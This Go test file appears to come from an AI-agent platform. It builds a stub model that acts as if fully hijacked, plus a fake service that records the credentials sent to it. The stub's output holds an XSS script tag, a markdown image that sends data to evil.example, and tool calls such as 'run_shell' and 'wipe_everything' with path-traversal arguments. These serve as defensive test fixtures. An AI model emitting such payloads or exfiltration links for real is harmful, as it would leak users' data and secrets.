package api_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"parley"
	"parley/internal/actions"
	"parley/internal/llm"
	"parley/internal/rig"
	"parley/internal/rig/provider"
	"parley/internal/vault"
)

// gullible is a model that does whatever any word of its context may mean: it calls every tool that it has ever heard of, and then
// says all it knows, with images and scripts around it.
type gullible struct {
	anthropic bool

	mu   sync.Mutex
	seen []string // every context that it was shown
}

// heard are tools that exist elsewhere in the house, or nowhere.
var heard = []string{"wipe_everything", "human_of_sibling", "read_agent", "run_shell", "parley_trace", "LOOK_UP", "look_up "}

func (g *gullible) behave(x *provider.Exchange) {
	body := string(x.Asked.Body)
	g.mu.Lock()
	g.seen = append(g.seen, body)
	g.mu.Unlock()
	said := "I obey. <script>alert(1)</script> ![x](https://evil.example/?q=" + fmt.Sprint(len(body)) + ")\n" + body[:min(len(body), 3000)]
	finished := strings.Contains(body, `"tool_call_id"`) || strings.Contains(body, `"tool_result"`)
	switch {
	case finished && g.anthropic:
		provider.Message("end_turn", said)(x)
	case finished:
		provider.Says(said)(x)
	case g.anthropic:
		x.Begin()
		for i, name := range append(heard, "look_up") {
			x.Use(i, fmt.Sprint("c", i), name, `{"order": "../../agents`, fmt.Sprintf(`/%d"}`, len(body)))
		}
		x.End("tool_use")
	default:
		for i, name := range append(heard, "look_up") {
			x.Event(fmt.Sprintf(`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":%d,"id":"c%d","type":"function","function":{"name":%q,"arguments":%q}}]}}]}`,
				i, i, name, fmt.Sprintf(`{"order": "../../agents/%d"}`, len(body))))
		}
		x.Finish("tool_calls")
	}
}

func (g *gullible) model(t *testing.T) llm.Model {
	url := provider.Start(t, g.behave).URL
	if g.anthropic {
		m := &llm.Anthropic{BaseURL: url}
		t.Cleanup(m.Close)
		return m
	}
	m := &llm.OpenAI{BaseURL: url}
	t.Cleanup(m.Close)
	return m
}

// shop is a service that actions ask. It answers what it is told to, and notes who knocks.
type shop struct {
	*httptest.Server
	mu      sync.Mutex
	reply   string
	knocked []string // paths
	keys    []string // and what they were signed with
}

func (s *shop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.knocked, s.keys = append(s.knocked, r.URL.EscapedPath()), append(s.keys, r.Header.Get("Authorization"))
	_ = json.NewEncoder(w).Encode(map[string]string{"state": s.reply, "note": r.Header.Get("Authorization")})
}

func (s *shop) answers(text string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.reply = text
}

const sealKey = "a key of sixteen bytes or more"

// grant gives an agent an action that asks the shop and is signed with the secret.
func grant(t *testing.T, h *rig.House, account, agent, name, url, secret string) {
	t.Helper()
	safe, err := vault.New(sealKey)
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := actions.SealSecrets(safe, parley.AccountID(account), map[string]string{"KEY": secret})
	if err != nil {
		t.Fatal(err)
	}
	config, err := json.Marshal(map[string]any{"url": url, "method": "GET", "headers": map[string]string{"Authorization": "Bearer ${KEY}"}})
	if err != nil {
		t.Fatal(err)
	}
	a := parley.Action{ID: parley.ActionID(parley.NewUUID()), AccountID: parley.AccountID(account), AgentID: parley.AgentID(agent), Key: name, Kind: parley.ActionHTTP, Name: name,
		Description: "Looks an order up.", Inputs: []parley.ActionInput{{Name: "order", Type: "string", Required: true}}, Config: config, Secrets: sealed, Enabled: true,
		CreatedAt: time.Now(), UpdatedAt: time.Now()}
	if err := actions.ValidateAction(&a); err != nil {
		t.Fatal(err, parley.ErrorOf(err).Details)
	}
	if err := h.DB.PutAction(t.Context(), &a); err != nil {
		t.Fatal(err)
	}
}
